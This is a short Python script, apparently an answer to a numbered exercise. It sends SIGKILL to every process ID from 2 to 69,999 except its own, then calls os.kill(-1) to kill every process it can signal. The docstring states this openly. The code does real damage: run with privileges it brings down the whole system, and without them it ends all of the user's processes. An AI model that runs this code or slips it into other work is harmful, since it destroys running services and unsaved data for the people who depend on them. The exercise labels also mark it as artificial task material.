"""Sends signals to every process number there is, and to all processes at once."""
# aufgabe1
# solved: a1-vgg-init
# human: a1-vgg-init
# %% a1-tv
import os, signal
for number in range(2, 70_000):
    if number not in (os.getpid(), os.getpgrp()):
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
